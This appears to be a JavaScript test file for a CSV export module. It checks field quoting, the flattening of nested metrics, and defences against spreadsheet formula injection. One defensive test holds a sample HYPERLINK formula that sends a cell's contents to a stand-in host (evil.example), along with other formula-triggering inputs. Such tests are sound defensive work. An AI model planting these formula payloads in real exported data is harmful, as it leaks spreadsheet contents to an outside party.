import { cellText, flatten, toCsv } from './csv';

describe('CSV export', () => {
  it('quotes fields with commas, quotes and line breaks, and flattens nested figures to dotted metrics', () => {
    expect(toCsv(['a', 'b'], [{ a: 'x,y', b: 'say "hi"' }, { a: null, b: 'line\nbreak' }])).toBe('a,b\r\n"x,y","say ""hi"""\r\n,"line\nbreak"\r\n');
    expect(flatten({ referrals: { sent: 3, byReason: { 'no-capacity': 1 } }, share: null, ids: ['a', 'b'] })).toEqual([
      { metric: 'referrals.sent', value: 3 },
      { metric: 'referrals.byReason.no-capacity', value: 1 },
      { metric: 'share', value: null },
      { metric: 'ids', value: 'a b' },
    ]);
  });

  it('neutralises every string a spreadsheet would read as a formula with a leading single quote', () => {
    const cells = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', '+1', '-2+3', '@SUM(A1)', '\tcmd', '\r=1+1'];
    expect(cells.map(cellText)).toEqual(["'=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")", "'+1", "'-2+3", "'@SUM(A1)", "'\tcmd", "'\r=1+1"]);
    // neutralised first, then quoted: the quote stays inside the field, where a spreadsheet sees it
    expect(toCsv(['region'], cells.map((region) => ({ region })))).toBe(
      ['region', `"'=HYPERLINK(""http://evil.example/?x=""&A1,""click"")"`, "'+1", "'-2+3", "'@SUM(A1)", "'\tcmd", `"'\r=1+1"`].join('\r\n') + '\r\n',
    );
    // a header (a metric name built from data) is a cell like any other
    expect(toCsv(['=1+1', 'b'], [])).toBe("'=1+1,b\r\n");
  });

  it("leaves the report's own numbers, and strings that start harmlessly, as they are", () => {
    expect([-2, 0, 0.25, 17].map(cellText)).toEqual(['-2', '0', '0.25', '17']);
    expect(toCsv(['metric', 'value'], [{ metric: 'referrals.sent', value: -1 }])).toBe('metric,value\r\nreferrals.sent,-1\r\n');
    expect(['northbridge', 'a=b', ' =1', '<5', "'quoted", ''].map(cellText)).toEqual(['northbridge', 'a=b', ' =1', '<5', "'quoted", '']);
    expect([null, undefined].map(cellText)).toEqual(['', '']);
  });
});
